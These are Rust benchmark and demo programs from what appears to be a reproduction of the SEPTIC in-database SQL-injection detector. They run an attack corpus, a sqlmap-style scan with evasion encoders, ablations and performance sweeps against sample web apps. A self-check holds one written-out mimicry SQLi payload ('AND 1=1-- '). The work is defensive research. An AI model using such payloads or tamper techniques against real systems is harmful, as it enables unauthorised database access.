    println!("Table I — operation modes and actions taken by SEPTIC (measured)\n");
    let modes = [Mode::Training, Mode::PREVENTION, Mode::DETECTION];
    let rows: Vec<Vec<String>> = modes
        .iter()
        .map(|&mode| {
            let o = observe(mode);
            vec![
                mode.to_string(),
                check(o.qm_training),
                check(o.qm_incremental),
                check(o.qm_log),
                check(o.sqli_detected),
                check(o.stored_detected),
                check(o.attack_logged),
                check(o.query_dropped),
                check(o.query_executed),
            ]
        })
        .collect();
    println!(
        "{}",
        render_table(
            &[
                "mode",
                "QM: T",
                "QM: I",
                "QM: log",
                "SQLI",
                "Stored Inj",
                "Log",
                "Drop",
                "Exec",
            ],
            &rows,
        )
    );
    println!("T: training   I: incremental");
    println!("(Drop/Exec read: what happens to the query when an attack is flagged;");
    println!(" in training mode no detection runs, so queries always execute.)");
}
