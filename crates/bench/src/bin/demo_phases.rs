//! Regenerates the five **demonstration phases** of Section IV:
//!
//! * **A** — attacks against the sanitized application (no external
//!   protection): the semantic-mismatch attacks succeed;
//! * **B** — ModSecurity added: some attacks blocked, others are false
//!   negatives;
//! * **C** — SEPTIC training: models learned once per query shape;
//! * **D** — SEPTIC prevention: every attack blocked, no false positives;
//! * **E** — ModSecurity versus SEPTIC, side by side.
//!
//! ```text
//! cargo run -p septic-bench --bin demo_phases [-- a|b|c|d|e|all]
//! ```

use std::sync::Arc;

use septic::{EventKind, Mode, Septic};
use septic_attacks::{corpus, crawl, run_corpus, summarize, train, Outcome, ProtectionConfig};
use septic_bench::{banner, render_table};
use septic_webapp::deployment::Deployment;
use septic_webapp::WaspMon;

fn main() {
    let phase = std::env::args().nth(1).unwrap_or_else(|| "all".to_string());
    let phase = phase.trim_start_matches("--").to_lowercase();
    match phase.as_str() {
        "a" => phase_a(),
        "b" => phase_b(),
        "c" => phase_c(),
        "d" => phase_d(),
        "e" => phase_e(),
        _ => {
            phase_a();
            phase_b();
            phase_c();
            phase_d();
            phase_e();
        }
    }
}

fn outcome_cell(outcome: Outcome) -> String {
    outcome.to_string()
}

fn results_table(config: ProtectionConfig) -> (Vec<Vec<String>>, septic_attacks::Summary) {
    let results = run_corpus(&corpus(), config);
    let rows = results
        .iter()
        .map(|r| {
            vec![
                r.attack_id.to_string(),
                r.class.to_string(),
                r.attack_name.to_string(),
                outcome_cell(r.outcome),
            ]
        })
        .collect();
    let summary = summarize(&results);
    (rows, summary)
}

fn phase_a() {
    println!(
        "{}",
        banner("Phase IV-A — attacks vs sanitization only (PHP escaping, no WAF, no SEPTIC)")
    );
    let (rows, s) = results_table(ProtectionConfig::SANITIZATION_ONLY);
    println!(
        "{}",
        render_table(&["id", "class", "attack", "outcome"], &rows)
    );
    println!(
        "summary: {} attacks, {} succeeded, {} thwarted by sanitization",
        s.total, s.succeeded, s.thwarted
    );
    println!("→ the semantic-mismatch attacks all succeed despite careful escaping");
}

fn phase_b() {
    println!(
        "{}",
        banner("Phase IV-B — ModSecurity (CRS) added in front of the application")
    );
    let (rows, s) = results_table(ProtectionConfig::WITH_WAF);
    println!(
        "{}",
        render_table(&["id", "class", "attack", "outcome"], &rows)
    );
    println!(
        "summary: {} blocked by ModSecurity, {} still SUCCEEDED (WAF false negatives), {} thwarted",
        s.blocked_waf, s.succeeded, s.thwarted
    );
    println!("→ classic payload shapes are filtered; semantic-mismatch attacks pass");
}

fn phase_c() {
    println!("{}", banner("Phase IV-C — training SEPTIC"));
    let septic = Arc::new(Septic::new());
    let deployment =
        Deployment::new(Arc::new(WaspMon::new()), None, Some(septic.clone())).expect("deploy");
    let report = train(&deployment, &septic, Mode::PREVENTION);
    println!(
        "crawled {} benign requests; {} query models learned; {} failures",
        report.requests_sent, report.models_learned, report.failures
    );

    println!("\nSEPTIC events (model creation excerpt):");
    for event in septic
        .logger()
        .events_where(|k| matches!(k, EventKind::ModelCreated { .. }))
        .iter()
        .take(8)
    {
        println!("  {event}");
    }

    // A query processed twice creates its model only once.
    septic.set_mode(Mode::Training);
    let before = septic.store().len();
    let _ = crawl(&deployment, 2);
    println!(
        "\nre-crawling twice more: models before = {before}, after = {} (no additions)",
        septic.store().len()
    );

    // Persistence: "all query models are in memory and are stored
    // persistently".
    let path = std::env::temp_dir().join("septic-demo-models.json");
    septic.save_models(&path).expect("persist models");
    let restarted = Septic::new();
    let loaded = restarted
        .load_models(&path)
        .expect("load models")
        .models_loaded;
    println!(
        "persisted {} models; fresh SEPTIC instance loaded {loaded} after 'restart'",
        before
    );
    std::fs::remove_file(&path).ok();
}

fn phase_d() {
    println!(
        "{}",
        banner("Phase IV-D — SEPTIC protection (prevention mode)")
    );
    let (rows, s) = results_table(ProtectionConfig::WITH_SEPTIC);
    println!(
        "{}",
        render_table(&["id", "class", "attack", "outcome"], &rows)
    );
    println!(
        "summary: {} blocked by SEPTIC, {} thwarted by sanitization, {} succeeded",
        s.blocked_septic, s.thwarted, s.succeeded
    );
    assert_eq!(s.succeeded, 0, "phase D must show zero false negatives");

    // No false positives: benign traffic flows through the trained stack.
    let septic = Arc::new(Septic::new());
    let deployment =
        Deployment::new(Arc::new(WaspMon::new()), None, Some(septic.clone())).expect("deploy");
    let _ = train(&deployment, &septic, Mode::PREVENTION);
    let benign = crawl(&deployment, 1);
    println!(
        "benign re-crawl under prevention: {} requests, {} failures (no false positives)",
        benign.requests_sent, benign.failures
    );
}

fn phase_e() {
    println!("{}", banner("Phase IV-E — ModSecurity versus SEPTIC"));
    let waf_results = run_corpus(&corpus(), ProtectionConfig::WITH_WAF);
    let septic_results = run_corpus(&corpus(), ProtectionConfig::WITH_SEPTIC);
    let rows: Vec<Vec<String>> = waf_results
        .iter()
        .zip(&septic_results)
        .map(|(w, s)| {
            let protected = |o: Outcome| if o.protected() { "protected" } else { "MISSED" };
            vec![
                w.attack_id.to_string(),
                w.class.to_string(),
                protected(w.outcome).to_string(),
                protected(s.outcome).to_string(),
            ]
        })
        .collect();
    println!(
        "{}",
        render_table(&["id", "class", "ModSecurity", "SEPTIC"], &rows)
    );
    let waf_missed = waf_results
        .iter()
        .filter(|r| !r.outcome.protected())
        .count();
    let septic_missed = septic_results
        .iter()
        .filter(|r| !r.outcome.protected())
        .count();
    println!("ModSecurity false negatives: {waf_missed}; SEPTIC false negatives: {septic_missed}");
    println!("paper: \"ModSecurity does not protect the application from all injected");
    println!("attacks. For SEPTIC we observe that all attacks are detected and no false");
    println!("positives are reported.\"");
}
