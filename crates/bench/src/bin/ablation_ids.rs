//! Ablation: what do **external query identifiers** buy?
//!
//! SEPTIC composes its query identifier from an optional external
//! identifier (shipped by the instrumented SSLE inside a `/* qid:… */`
//! comment) and an internal structural hash of the query head. The
//! external part disambiguates *structurally head-identical* queries
//! issued from different program points. This harness measures, per
//! application, how many distinct models are learned with and without
//! external identifiers, and how many call sites would collide onto a
//! shared model without them.
//!
//! ```text
//! cargo run -p septic-bench --bin ablation_ids
//! ```

use std::collections::HashMap;
use std::sync::Arc;

use septic::{Mode, Septic};
use septic_attacks::train;
use septic_bench::{banner, render_table};
use septic_webapp::deployment::Deployment;
use septic_webapp::{PhpAddressBook, Refbase, WaspMon, WebApp, ZeroCms};

fn learn_models(app: Arc<dyn WebApp>, use_external: bool) -> (Vec<septic::QueryId>, usize) {
    let septic = Arc::new(Septic::new());
    septic.set_use_external_ids(use_external);
    let deployment = Deployment::new(app, None, Some(septic.clone())).expect("deploy");
    let _ = train(&deployment, &septic, Mode::PREVENTION);
    // False-positive probe: replay the same benign traffic in prevention
    // mode. Call sites whose head collided onto another site's model get
    // flagged as attacks.
    let benign = septic_attacks::crawl(&deployment, 1);
    (septic.store().ids(), benign.failures)
}

fn main() {
    println!("{}", banner("External-identifier ablation"));
    let apps: Vec<Arc<dyn WebApp>> = vec![
        Arc::new(WaspMon::new()),
        Arc::new(PhpAddressBook::new()),
        Arc::new(Refbase::new()),
        Arc::new(ZeroCms::new()),
    ];
    let mut rows = Vec::new();
    for app in apps {
        let name = app.name().to_string();
        let (with_ext, fp_with) = learn_models(app.clone(), true);
        let (without_ext, fp_without) = learn_models(app, false);
        // Collisions: distinct external ids mapping to the same internal id.
        let mut by_internal: HashMap<u64, Vec<String>> = HashMap::new();
        for id in &with_ext {
            by_internal
                .entry(id.internal)
                .or_default()
                .push(id.external.as_deref().unwrap_or("(none)").to_string());
        }
        let colliding_sites: usize = by_internal
            .values()
            .filter(|sites| sites.len() > 1)
            .map(Vec::len)
            .sum();
        rows.push(vec![
            name,
            with_ext.len().to_string(),
            without_ext.len().to_string(),
            colliding_sites.to_string(),
            fp_with.to_string(),
            fp_without.to_string(),
        ]);
    }
    println!(
        "{}",
        render_table(
            &[
                "application",
                "models (with qid)",
                "models (no qid)",
                "call sites sharing a head",
                "benign FPs (with qid)",
                "benign FPs (no qid)",
            ],
            &rows,
        )
    );
    println!("\nWith external identifiers, head-identical queries from different call");
    println!("sites keep separate models (stricter per-site structures); without them");
    println!("those call sites share one model. The demo apps ship `/* qid:… */`");
    println!("comments from their query sites, mirroring the paper's instrumented Zend.");
    println!("Head-sharing call sites with different WHERE structures become benign");
    println!("false positives without external identifiers — the concrete reason the");
    println!("paper makes SSLE support available.");
}
