//! Ablation: what does **step 2** (syntactic verification) of the SQLI
//! algorithm add over step 1 (structural verification) alone?
//!
//! Runs the SQLI half of the attack corpus under SEPTIC prevention twice —
//! full two-step detector versus structural-only — and tabulates which
//! attacks each catches.
//!
//! ```text
//! cargo run -p septic-bench --bin ablation_detector
//! ```

use septic_attacks::{corpus, run_corpus, Outcome, ProtectionConfig};
use septic_bench::{banner, render_table};

fn main() {
    println!(
        "{}",
        banner("Detector ablation — two-step vs structural-only")
    );
    let attacks: Vec<_> = corpus().into_iter().filter(|a| a.class.is_sqli()).collect();
    let full = run_corpus(&attacks, ProtectionConfig::WITH_SEPTIC);
    let ablated = run_corpus(&attacks, ProtectionConfig::SEPTIC_STRUCTURAL_ONLY);

    let mark = |outcome: Outcome| {
        if outcome.protected() {
            "protected"
        } else {
            "MISSED"
        }
        .to_string()
    };
    let rows: Vec<Vec<String>> = full
        .iter()
        .zip(&ablated)
        .map(|(f, a)| {
            vec![
                f.attack_id.to_string(),
                f.class.to_string(),
                mark(a.outcome),
                mark(f.outcome),
            ]
        })
        .collect();
    println!(
        "{}",
        render_table(&["id", "class", "step 1 only", "steps 1+2"], &rows)
    );

    let missed: Vec<&str> = ablated
        .iter()
        .filter(|r| !r.outcome.protected())
        .map(|r| r.attack_id)
        .collect();
    println!("structural-only false negatives: {}", missed.join(", "));
    println!("\nStep 2 exists for the paper's mimicry class (Figure 4), but it also");
    println!("covers payloads that merely *happen* to reproduce the learned arity —");
    println!("S3's UNION arm lands on exactly the node count of the trained query,");
    println!("so counting nodes alone cannot tell them apart.");
}
