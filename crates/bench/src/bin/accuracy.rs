//! Detection-accuracy comparison across every protection configuration —
//! the quantitative backbone behind demo phases IV-A/B/D/E, in one matrix.
//!
//! ```text
//! cargo run -p septic-bench --bin accuracy
//! ```

use septic::Mode;
use septic_attacks::{corpus, run_corpus, summarize, Outcome, ProtectionConfig};
use septic_bench::{banner, render_table};

fn main() {
    let configs = [
        ProtectionConfig::SANITIZATION_ONLY,
        ProtectionConfig::WITH_WAF,
        ProtectionConfig {
            waf: false,
            septic: Some(Mode::DETECTION),
            detection: septic::DetectionConfig::YY,
            structural_only: false,
        },
        ProtectionConfig::WITH_SEPTIC,
        ProtectionConfig::WAF_AND_SEPTIC,
    ];

    println!("{}", banner("Per-attack outcome matrix"));
    let attacks = corpus();
    let mut all_results = Vec::new();
    for config in configs {
        all_results.push(run_corpus(&attacks, config));
    }
    let headers: Vec<String> = std::iter::once("attack".to_string())
        .chain(configs.iter().map(|c| c.label()))
        .collect();
    let header_refs: Vec<&str> = headers.iter().map(String::as_str).collect();
    let rows: Vec<Vec<String>> = attacks
        .iter()
        .enumerate()
        .map(|(i, a)| {
            std::iter::once(format!("{} {}", a.id, a.class))
                .chain(all_results.iter().map(|r| r[i].outcome.to_string()))
                .collect()
        })
        .collect();
    println!("{}", render_table(&header_refs, &rows));

    println!("{}", banner("Protection rate per configuration"));
    let rows: Vec<Vec<String>> = configs
        .iter()
        .zip(&all_results)
        .map(|(config, results)| {
            let s = summarize(results);
            let protected = results.iter().filter(|r| r.outcome.protected()).count();
            let fn_count = results
                .iter()
                .filter(|r| matches!(r.outcome, Outcome::Succeeded))
                .count();
            vec![
                config.label(),
                format!("{protected}/{}", s.total),
                format!("{fn_count}"),
                format!("{}", s.blocked_waf),
                format!("{}", s.blocked_septic),
                format!("{}", s.detected_only),
            ]
        })
        .collect();
    println!(
        "{}",
        render_table(
            &[
                "configuration",
                "protected",
                "false neg",
                "waf blocks",
                "septic blocks",
                "detected only"
            ],
            &rows,
        )
    );
    println!("(\"detected only\" = SEPTIC detection mode: flagged and logged, not dropped)");
}
