//! Regenerates **Figure 5**: average latency overhead of the four SEPTIC
//! detector configurations (NN, YN, NY, YY) versus vanilla MySQL, for the
//! three workload applications (PHP Address Book, refbase, ZeroCMS) under
//! the paper's maximum client fleet (20 browsers on 4 machines).
//!
//! Also reproduces the client-scaling phases of the evaluation (1→4
//! machines with one browser, then 8→20 browsers) with `--scaling`.
//!
//! Paper reference points: overhead between ~0.5% (NN) and ~2.2% (YY),
//! with YN ≈ 0.8%; overhead similar across applications.
//!
//! ```text
//! cargo run --release -p septic-bench --bin fig5_overhead [-- --quick|--scaling]
//! ```

use septic_bench::{banner, render_table};
use septic_benchlab::{measure, overhead_sweep, ExperimentPlan, Fleet, GuardSetup};
use septic_webapp::apps::workload_apps;

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let quick = args.iter().any(|a| a == "--quick");
    let scaling = args.iter().any(|a| a == "--scaling");
    let fleet = args.iter().any(|a| a == "--fleet");

    // Default: single browser, many interleaved rounds — the cleanest
    // signal on small machines. `--fleet` uses the paper's 20-browser
    // fleet (meaningful on multi-core hosts; on one core the thread
    // oversubscription adds noise larger than the measured effect).
    let plan = if quick {
        ExperimentPlan {
            fleet: Fleet {
                machines: 1,
                browsers_per_machine: 1,
            },
            warmup_loops: 2,
            loops: 15,
            ..ExperimentPlan::default()
        }
    } else if fleet {
        ExperimentPlan::default()
    } else {
        ExperimentPlan {
            fleet: Fleet {
                machines: 1,
                browsers_per_machine: 1,
            },
            warmup_loops: 5,
            loops: 120,
            ..ExperimentPlan::default()
        }
    };

    println!(
        "{}",
        banner(&format!(
            "Figure 5 — SEPTIC latency overhead ({} machines x {} browsers, {} loops)",
            plan.fleet.machines, plan.fleet.browsers_per_machine, plan.loops
        ))
    );

    let mut rows = Vec::new();
    for app in workload_apps() {
        let row = overhead_sweep(app, plan);
        eprintln!(
            "measured {:<16} baseline mean {:?}",
            row.app, row.baseline_mean
        );
        rows.push(
            std::iter::once(row.app.clone())
                .chain(row.overheads.iter().map(|(_, o)| format!("{o:+.2}%")))
                .collect::<Vec<String>>(),
        );
    }
    println!(
        "{}",
        render_table(&["application", "NN", "YN", "NY", "YY"], &rows)
    );
    println!("paper: 0.5% (NN) … 2.2% (YY); YN ≈ 0.8%; similar across the three applications");
    println!(
        "(client-observed latency = measured DBMS+app time + {:?} simulated",
        plan.service_pad
    );
    println!(" web/network tier; see EXPERIMENTS.md for the calibration rationale)");

    if scaling {
        client_scaling();
    }
}

/// The evaluation's scaling phases: refbase with 1→4 machines × 1 browser,
/// then 4 machines × 2→5 browsers (8, 12, 16, 20 browsers).
fn client_scaling() {
    println!("{}", banner("Client scaling (refbase workload, SEPTIC YY)"));
    let mut rows = Vec::new();
    let fleets: Vec<Fleet> = (1..=4)
        .map(|m| Fleet {
            machines: m,
            browsers_per_machine: 1,
        })
        .chain((2..=5).map(|b| Fleet {
            machines: 4,
            browsers_per_machine: b,
        }))
        .collect();
    for fleet in fleets {
        let plan = ExperimentPlan {
            fleet,
            warmup_loops: 1,
            loops: 10,
            ..ExperimentPlan::default()
        };
        let app: std::sync::Arc<dyn septic_webapp::WebApp> =
            std::sync::Arc::new(septic_webapp::Refbase::new());
        let vanilla = measure(app.clone(), GuardSetup::Vanilla, plan);
        let septic = measure(app, GuardSetup::Septic(septic::DetectionConfig::YY), plan);
        rows.push(vec![
            format!("{}x{}", fleet.machines, fleet.browsers_per_machine),
            format!("{}", fleet.browsers()),
            format!("{:?}", vanilla.stats.mean),
            format!("{:?}", septic.stats.mean),
            format!("{:+.2}%", septic.stats.overhead_vs(&vanilla.stats)),
        ]);
    }
    println!(
        "{}",
        render_table(
            &[
                "machines x browsers",
                "total",
                "vanilla mean",
                "septic YY mean",
                "overhead"
            ],
            &rows,
        )
    );
}
