//! A sqlmap-style probing session against WaspMon — the attacker's-eye
//! view the demo drives from the client machine ("a browser … and other
//! tools to perform SQLI attacks, such as sqlmap").
//!
//! Scans the two `/history` parameters under each protection
//! configuration and reports which techniques/encoders demonstrate
//! injectability.
//!
//! ```text
//! cargo run -p septic-bench --bin sqlmap_scan
//! ```

use std::sync::Arc;

use septic::{Mode, Septic};
use septic_attacks::sqlmap::{numeric_probes, scan_param, string_probes, Encoder};
use septic_attacks::train;
use septic_bench::{banner, render_table};
use septic_http::HttpRequest;
use septic_waf::ModSecurity;
use septic_webapp::deployment::Deployment;
use septic_webapp::WaspMon;

const ENCODERS: [Encoder; 4] = [
    Encoder::Plain,
    Encoder::HomoglyphQuote,
    Encoder::VersionComment,
    Encoder::CaseMix,
];

fn deployment(waf: bool, septic_on: bool) -> Deployment {
    let waf = waf.then(|| Arc::new(ModSecurity::new()));
    let septic = septic_on.then(|| Arc::new(Septic::new()));
    let d = Deployment::new(Arc::new(WaspMon::new()), waf, septic.clone()).expect("deploy");
    if let Some(septic) = septic {
        let _ = train(&d, &septic, Mode::PREVENTION);
    }
    d
}

fn main() {
    let base = HttpRequest::get("/history")
        .param("device", "Kitchen Meter")
        .param("days", "0");
    println!(
        "{}",
        banner("sqlmap-style scan of /history (params: days, device)")
    );

    let mut rows = Vec::new();
    for (label, waf, septic_on) in [
        ("sanitization", false, false),
        ("modsecurity", true, false),
        ("septic", false, true),
    ] {
        let d = deployment(waf, septic_on);
        let days = scan_param(&d, &base, "days", &numeric_probes(&ENCODERS));
        let device = scan_param(&d, &base, "device", &string_probes(&ENCODERS));
        for (param, report) in [("days", &days), ("device", &device)] {
            let findings = if report.findings.is_empty() {
                "none".to_string()
            } else {
                report
                    .findings
                    .iter()
                    .map(|(t, e)| format!("{t} [{e:?}]"))
                    .collect::<Vec<_>>()
                    .join(", ")
            };
            rows.push(vec![
                label.to_string(),
                param.to_string(),
                report.probes_sent.to_string(),
                report.blocked.to_string(),
                if report.vulnerable() {
                    "VULNERABLE"
                } else {
                    "not shown"
                }
                .to_string(),
                findings,
            ]);
        }
    }
    println!(
        "{}",
        render_table(
            &[
                "config",
                "param",
                "probes",
                "blocked",
                "verdict",
                "working techniques"
            ],
            &rows,
        )
    );
    println!("\nExpected shape: the bare app is injectable (numeric context with plain");
    println!("probes; string context only with the homoglyph tamper); ModSecurity kills");
    println!("the classic probes but not the tampered ones; SEPTIC leaves sqlmap empty-handed.");
}
