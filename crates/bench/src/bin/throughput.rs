//! Concurrent throughput sweep: queries/sec through the guarded DBMS at
//! 1/2/4/8 session threads for the four detector configurations
//! (NN/YN/NY/YY), written to `BENCH_throughput.json`.
//!
//! The measurement is closed-loop: every session sleeps a small client
//! pad between requests, modelling the paper's LAN clients (who spend far
//! longer in network/think time than the DBMS spends serving). Scaling
//! therefore comes from overlapping client wait — what a
//! session-per-thread front end buys — and stays measurable on
//! single-core hosts. The pad is recorded in the JSON metadata.
//!
//! ```text
//! cargo run --release -p septic-bench --bin throughput [-- --smoke]
//! ```
//!
//! `--smoke` runs a seconds-long CI shape (2 threads max, capped
//! duration) and does not write the JSON artefact.

use septic_bench::{banner, render_table};
use septic_benchlab::{run_throughput, ThroughputPlan};

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let smoke = args.iter().any(|a| a == "--smoke");
    let plan = if smoke {
        ThroughputPlan::smoke()
    } else {
        ThroughputPlan::default()
    };

    println!(
        "{}",
        banner(&format!(
            "Throughput — {} session threads x NN/YN/NY/YY ({} queries/session, {}us client pad)",
            plan.threads
                .iter()
                .map(ToString::to_string)
                .collect::<Vec<_>>()
                .join("/"),
            plan.queries_per_thread,
            plan.client_pad.as_micros()
        ))
    );

    let report = run_throughput(&plan);

    let rows: Vec<Vec<String>> = report
        .rows
        .iter()
        .map(|r| {
            vec![
                r.config.clone(),
                r.threads.to_string(),
                r.queries.to_string(),
                format!("{:.1}", r.elapsed_us as f64 / 1000.0),
                format!("{:.0}", r.qps),
            ]
        })
        .collect();
    println!(
        "{}",
        render_table(
            &["config", "threads", "queries", "elapsed (ms)", "qps"],
            &rows
        )
    );

    let &max_threads = plan.threads.iter().max().expect("thread counts");
    if let Some(speedup) = report.speedup("YY", max_threads, 1) {
        println!("YY speedup {max_threads} threads vs 1: {speedup:.2}x");
        if smoke {
            // CI smoke: the concurrent path must at least not collapse.
            assert!(
                speedup > 1.2,
                "concurrent serving regressed: {max_threads}-thread YY only {speedup:.2}x 1-thread"
            );
        } else {
            assert!(
                speedup >= 3.0,
                "acceptance: {max_threads}-thread YY must be >= 3x 1-thread, got {speedup:.2}x"
            );
        }
    }

    if !smoke {
        let json = report.to_json().expect("serialize report");
        std::fs::write("BENCH_throughput.json", json).expect("write BENCH_throughput.json");
        println!("wrote BENCH_throughput.json");
    }
}
