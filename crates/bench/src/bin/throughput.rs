//! Concurrent throughput sweep: queries/sec through the guarded DBMS at
//! 1/2/4/8 session threads for the four detector configurations
//! (NN/YN/NY/YY), written to `BENCH_throughput.json`.
//!
//! The measurement is closed-loop: every session sleeps a small client
//! pad between requests, modelling the paper's LAN clients (who spend far
//! longer in network/think time than the DBMS spends serving). Scaling
//! therefore comes from overlapping client wait — what a
//! session-per-thread front end buys — and stays measurable on
//! single-core hosts. The pad is recorded in the JSON metadata.
//!
//! ```text
//! cargo run --release -p septic-bench --bin throughput \
//!     [-- --smoke] [-- --tcp] [-- --open-loop]
//! ```
//!
//! `--smoke` runs a seconds-long CI shape (2 threads max, capped
//! duration) and does not write the JSON artefact. `--tcp` additionally
//! drives the same closed-loop sweep over the framed TCP front ends —
//! the blocking worker pool (`tcp_rows`) and, on Linux, the epoll event
//! loop (`tcp_event_rows`) — so the wire tax and the concurrency models
//! are quantified next to the in-process numbers. `--open-loop` adds the
//! coordinated-omission-aware latency-vs-offered-load curves and the
//! idle-connection memory row (see `septic_benchlab::openloop`).

use std::sync::Arc;

use septic::{Mode, Septic};
use septic_bench::{banner, render_table};
use septic_benchlab::{
    run_engine_comparison, run_idle_memory, run_join_workload, run_open_loop, run_recovery_bench,
    run_throughput, run_throughput_tcp, run_throughput_tcp_front_end, EngineRow, IdleConnRow,
    OpenLoopPlan, OpenLoopRow, RecoveryPlan, RecoveryRow, ThroughputPlan, ThroughputRow,
};
use septic_dbms::Server;
use septic_net::FrontEndKind;
use septic_telemetry::parse_prometheus;

/// Smoke-mode self-check: one trained deployment, one blocked attack, and
/// the Prometheus export must parse and agree with the snapshot API.
fn prometheus_self_check() {
    let server = Server::new();
    let conn = server.connect();
    conn.execute("CREATE TABLE tickets (reservID VARCHAR(16), creditCard INT)")
        .expect("create");
    let septic = Arc::new(Septic::new());
    server.install_guard(septic.clone());
    septic.set_mode(Mode::Training);
    conn.execute("SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234")
        .expect("training query");
    septic.set_mode(Mode::PREVENTION);
    let attack = conn
        .execute("SELECT * FROM tickets WHERE reservID = 'ID34FG' AND 1=1-- ' AND creditCard = 0");
    assert!(attack.is_err(), "mimicry attack must be blocked");

    let text = server.prometheus();
    let series = parse_prometheus(&text).expect("prometheus export must parse");
    let attacks = series
        .get("septic_attacks_total")
        .copied()
        .expect("septic_attacks_total series");
    assert!(
        (attacks - 1.0).abs() < f64::EPSILON,
        "export reports {attacks} attacks, expected 1"
    );
    let snapshot = server
        .metrics_snapshot()
        .counter("septic_attacks_total")
        .expect("snapshot counter");
    assert_eq!(snapshot, 1, "snapshot disagrees with export");
    println!("prometheus self-check: export parses, septic_attacks_total=1 OK");
}

/// Renders a set of throughput rows as the standard table.
fn throughput_table(rows: &[ThroughputRow]) -> String {
    let cells: Vec<Vec<String>> = rows
        .iter()
        .map(|r| {
            vec![
                r.config.clone(),
                r.threads.to_string(),
                r.queries.to_string(),
                format!("{:.1}", r.elapsed_us as f64 / 1000.0),
                format!("{:.0}", r.qps),
                r.p50_us.to_string(),
                r.p95_us.to_string(),
                r.p99_us.to_string(),
            ]
        })
        .collect();
    render_table(
        &[
            "config",
            "threads",
            "queries",
            "elapsed (ms)",
            "qps",
            "p50 (us)",
            "p95 (us)",
            "p99 (us)",
        ],
        &cells,
    )
}

/// Renders the AST-vs-VM engine cells as a table.
fn engine_table(rows: &[EngineRow]) -> String {
    let cells: Vec<Vec<String>> = rows
        .iter()
        .map(|r| {
            vec![
                r.engine.clone(),
                r.row.threads.to_string(),
                r.row.queries.to_string(),
                format!("{:.1}", r.row.elapsed_us as f64 / 1000.0),
                format!("{:.0}", r.row.qps),
                r.row.p50_us.to_string(),
                r.row.p95_us.to_string(),
                r.row.p99_us.to_string(),
            ]
        })
        .collect();
    render_table(
        &[
            "engine",
            "threads",
            "queries",
            "elapsed (ms)",
            "qps",
            "p50 (us)",
            "p95 (us)",
            "p99 (us)",
        ],
        &cells,
    )
}

/// Renders the open-loop cells as a table.
fn open_loop_table(rows: &[OpenLoopRow]) -> String {
    let cells: Vec<Vec<String>> = rows
        .iter()
        .map(|r| {
            vec![
                r.front_end.clone(),
                r.offered_qps.to_string(),
                format!("{:.0}", r.achieved_qps),
                format!("{}/{}", r.completed, r.scheduled),
                r.errors.to_string(),
                r.p50_us.to_string(),
                r.p95_us.to_string(),
                r.p99_us.to_string(),
                format!("{:.1}", r.max_lag_us as f64 / 1000.0),
            ]
        })
        .collect();
    render_table(
        &[
            "front end",
            "offered qps",
            "achieved qps",
            "done/sched",
            "errors",
            "p50 (us)",
            "p95 (us)",
            "p99 (us)",
            "max lag (ms)",
        ],
        &cells,
    )
}

/// Renders the idle-connection memory rows as a table.
fn idle_table(rows: &[IdleConnRow]) -> String {
    let cells: Vec<Vec<String>> = rows
        .iter()
        .map(|r| {
            vec![
                r.front_end.clone(),
                r.connections.to_string(),
                r.threads.to_string(),
                r.rss_before_kb.to_string(),
                r.rss_after_kb.to_string(),
                r.rss_delta_kb.to_string(),
                format!("{:.1}", r.kb_per_connection),
            ]
        })
        .collect();
    render_table(
        &[
            "front end",
            "idle conns",
            "threads",
            "rss before (kB)",
            "rss after (kB)",
            "delta (kB)",
            "kB/conn",
        ],
        &cells,
    )
}

/// Renders the recovery-time cells as a table.
fn recovery_table(rows: &[RecoveryRow]) -> String {
    let cells: Vec<Vec<String>> = rows
        .iter()
        .map(|r| {
            vec![
                r.variant.to_string(),
                r.commits.to_string(),
                r.wal_bytes.to_string(),
                r.replayed_records.to_string(),
                if r.snapshot_loaded { "yes" } else { "no" }.to_string(),
                r.recovered_rows.to_string(),
                format!("{:.1}", r.open_us as f64 / 1000.0),
            ]
        })
        .collect();
    render_table(
        &[
            "variant",
            "commits",
            "wal bytes",
            "replayed",
            "snapshot",
            "rows",
            "reopen (ms)",
        ],
        &cells,
    )
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let smoke = args.iter().any(|a| a == "--smoke");
    let tcp = args.iter().any(|a| a == "--tcp");
    let open_loop = args.iter().any(|a| a == "--open-loop");
    let recovery = args.iter().any(|a| a == "--recovery");
    let plan = if smoke {
        ThroughputPlan::smoke()
    } else {
        ThroughputPlan::default()
    };
    // The epoll front end is Linux-only; elsewhere the wire comparisons
    // cover the blocking front end alone.
    let event_loop_available = cfg!(target_os = "linux");

    println!(
        "{}",
        banner(&format!(
            "Throughput — {} session threads x NN/YN/NY/YY ({} queries/session, {}us client pad)",
            plan.threads
                .iter()
                .map(ToString::to_string)
                .collect::<Vec<_>>()
                .join("/"),
            plan.queries_per_thread,
            plan.client_pad.as_micros()
        ))
    );

    let mut report = run_throughput(&plan);
    if tcp {
        report.tcp_rows = run_throughput_tcp(&plan);
        if event_loop_available {
            report.tcp_event_rows = run_throughput_tcp_front_end(&plan, FrontEndKind::EventLoop);
        }
    }
    if open_loop {
        let oplan = if smoke {
            OpenLoopPlan::smoke()
        } else {
            OpenLoopPlan::default()
        };
        let kinds: Vec<FrontEndKind> = if event_loop_available {
            FrontEndKind::all().to_vec()
        } else {
            vec![FrontEndKind::Blocking]
        };
        report.open_loop_rows = run_open_loop(&oplan, &kinds);
        if event_loop_available {
            let idle_conns = if smoke { 128 } else { 1000 };
            report.idle_rows = run_idle_memory(idle_conns).into_iter().collect();
        }
    }
    report.engine_rows = run_engine_comparison(&plan);
    report.join_rows = run_join_workload(&plan);
    let recovery_rows = if recovery {
        let rplan = if smoke {
            RecoveryPlan::smoke()
        } else {
            RecoveryPlan::default()
        };
        run_recovery_bench(&rplan)
    } else {
        Vec::new()
    };

    println!("{}", throughput_table(&report.rows));
    if !report.tcp_rows.is_empty() {
        println!("over the wire (blocking TCP front end):");
        println!("{}", throughput_table(&report.tcp_rows));
    }
    if !report.tcp_event_rows.is_empty() {
        println!("over the wire (epoll event-loop front end):");
        println!("{}", throughput_table(&report.tcp_event_rows));
    }
    if !report.open_loop_rows.is_empty() {
        println!("open loop (fixed arrival schedule, latency from scheduled time):");
        println!("{}", open_loop_table(&report.open_loop_rows));
    }
    if !report.idle_rows.is_empty() {
        println!("idle connection memory (event loop, fixed threads):");
        println!("{}", idle_table(&report.idle_rows));
    }
    if !recovery_rows.is_empty() {
